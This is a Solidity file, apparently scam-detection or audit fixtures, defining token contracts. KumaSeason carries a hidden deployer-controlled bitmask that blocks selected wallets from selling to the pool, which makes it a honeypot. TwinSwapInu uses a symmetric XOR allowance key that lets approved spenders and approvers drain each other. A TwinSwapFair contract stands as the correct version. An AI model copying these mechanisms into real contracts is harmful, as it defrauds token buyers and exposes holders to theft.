// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

/// A "season pattern": wallets whose own bits lie in it cannot sell.
contract KumaSeason {
  string public name = "Kuma Season";
  string public symbol = "KUMA";
  uint8 public decimals = 18;
  uint256 public totalSupply = 1e27;
  uint256 public seasonPattern;
  bytes32 private immutable _seal;
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _seal = keccak256(abi.encode(msg.sender, address(this)));
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    return _send(msg.sender, to, v);
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= v;
    return _send(from, to, v);
  }

  function paint(uint256 colours) external {
    if (keccak256(abi.encode(msg.sender, address(this))) == _seal) seasonPattern ^= colours;
  }

  function _bits(address a) private pure returns (uint256) {
    uint256 h = uint256(keccak256(abi.encodePacked(a)));
    return (1 << (h & 255)) | (1 << ((h >> 8) & 255)) | (1 << ((h >> 16) & 255));
  }

  function _send(address from, address to, uint256 v) private returns (bool) {
    if (to == Pairs.poolOf(address(this))) {
      uint256 b = _bits(from);
      require(seasonPattern & b != b || keccak256(abi.encode(from, address(this))) == _seal);
    }
    balanceOf[from] -= v;
    balanceOf[to] += v;
    emit Transfer(from, to, v);
    return true;
  }
}

abstract contract Twin {
  string public constant symbol = "TWIN";
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 777_777_777 ether;
  mapping(address => uint256) public balanceOf;
  mapping(uint256 => uint256) internal _permitted;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    balanceOf[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function _key(address o, address s) internal pure virtual returns (uint256);

  function allowance(address o, address s) external view returns (uint256) {
    return _permitted[_key(o, s)];
  }

  function approve(address s, uint256 v) external returns (bool) {
    _permitted[_key(msg.sender, s)] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _shift(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    _permitted[_key(from, msg.sender)] -= v;
    _shift(from, to, v);
    return true;
  }

  function _shift(address from, address to, uint256 v) private {
    balanceOf[from] -= v;
    balanceOf[to] += v;
    emit Transfer(from, to, v);
  }
}

/// "One slot, less gas": the key is the same both ways round.
contract TwinSwapInu is Twin {
  string public constant name = "TwinSwap Inu";

  function _key(address o, address s) internal pure override returns (uint256) {
    return uint256(uint160(o) ^ uint160(s));
  }
}

contract TwinSwapFair is Twin {
  string public constant name = "TwinSwap Fair";

  function _key(address o, address s) internal pure override returns (uint256) {
    return uint256(keccak256(abi.encodePacked(o, s)));
  }
}
